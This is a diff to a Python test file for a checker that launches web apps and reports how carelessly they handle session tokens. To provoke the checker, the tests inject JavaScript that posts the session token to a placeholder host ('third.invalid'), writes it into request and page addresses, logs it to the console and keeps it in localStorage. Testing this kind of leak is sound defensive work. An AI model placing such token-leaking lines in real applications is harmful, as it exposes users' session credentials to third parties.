@@ -11,8 +11,11 @@ from pathlib import Path
 import pytest
 from pydantic import SecretStr
 
-from launcher.metapro import CATALOGUE, Screen, Verdict
-from tests.metapro_pages import Stage, browser, driven, failed, stage
+from launcher.metapro import CATALOGUE, Launch, MetaproDriver, Screen, Verdict
+from launcher.metapro.steps.launch import start_parameter
+from launcher.metapro.steps.login import app_login
+from tests.metapro_drives import APP, settings_for
+from tests.metapro_pages import PATIENT, Stage, browser, driven, failed, stage
 
 __all__ = ["browser", "stage"]
 
@@ -64,6 +67,10 @@ GATE = "element(state === 'gated' ? 'gate' : 'app').hidden = false;"
 BEGIN = "await Promise.all([signIn(), showLeaderboard(), meetConnectedWallet()]);"
 TELL = "tell(what, problem.message || String(problem));"
 THIRD = "fetch('http://third.invalid/', { method: 'POST', body: session.token }).catch(() => 0);"
+IN_ADDRESSES = (
+    "fetch(`/?t=${encodeURIComponent(session.token)}`).catch(() => 0);"
+    "history.replaceState(null, '', `?t=${session.token}`);"
+)
 BROKEN = {
     "says what its launch does not": Broken(
         {
@@ -77,14 +84,19 @@ BROKEN = {
     "wrong in five ways": Broken(
         {
             "        referralCode,\n": "",
-            "know(account);\n": f"know(account); console.log(session.token); {THIRD}\n",
+            "know(account);\n": f"know(account); console.log(session.token); {THIRD} {IN_ADDRESSES}\n",
             "`Request ID ${hash}`": "`Request ID A-HASH-OF-ITS-OWN`",
             TELL: f"if (problem.code !== 4001) {TELL}",
             "problem.status !== 401 || !again": "problem.status !== 401",
         },
         {
             "T3": ("does not reach the login",),
-            "S1": ("in the console", "goes to third.invalid"),
+            "S1": (
+                "in the address of a request",
+                "in the address of the page",
+                "in the console",
+                "goes to third.invalid",
+            ),
             "W2.app": ("another hash than Metapro issued",),
             "W4.rejected": ("says nothing about a refused signature",),
             "X3": ("a loop",),
@@ -147,8 +159,10 @@ async def test_an_app_that_is_careless_with_its_token_is_told_so(stage: Stage) -
         "authorization: token, 'x-account-userid': userId": "authorization: `Bearer ${token}`",
         BEGIN: "session = { token: 'x' }; await me(); session = null; " + BEGIN,
         "`${what}: ${problem}`": "`${'.'.repeat(352)}${session?.token}`",
+        "know(account);\n": "know(account); localStorage.setItem('kept', session.token);\n",
     }
-    report = await driven(stage, "X3", broken=careless)
+    report = await driven(stage, "X3", "S1", broken=careless)
+    assert report["S1"].warnings == ("the token is in localStorage, and outlives the session",)
     assert "before it logs in" in report["L1.app"].warnings[0]
     for step in ("L1.app", "X3"):
         assert report[step].warnings[-2:] == (
@@ -158,6 +172,19 @@ async def test_an_app_that_is_careless_with_its_token_is_told_so(stage: Stage) -
     told = json.dumps(report.to_json())
     assert "then it tells: ......" in report["X3"].cause
     assert [token for token in stage.metapro.accounts.tokens if token[:6] in told] == []
+
+
+async def test_an_app_is_judged_by_its_own_launch_when_the_driver_has_a_newer_one(stage: Stage) -> None:
+    driver = MetaproDriver(settings_for(stage.metapro), screen=PATIENT)
+    async with (
+        stage.launcher.open(APP, start_param="mine") as newer,
+        stage.launcher.open(APP, start_param="friend", hosting=driver.hosting()) as app,
+        driver._session(app, None) as drive,
+    ):
+        drive.fresh = Launch.of(newer)
+        assert drive.newest.raw != drive.launched.raw
+        assert (await app_login(drive)).text == "our init data unchanged, the configured ids"
+        assert (await start_parameter(drive)).text == "the start parameter is the login's referralCode"
 
 
 ON_LOAD = {
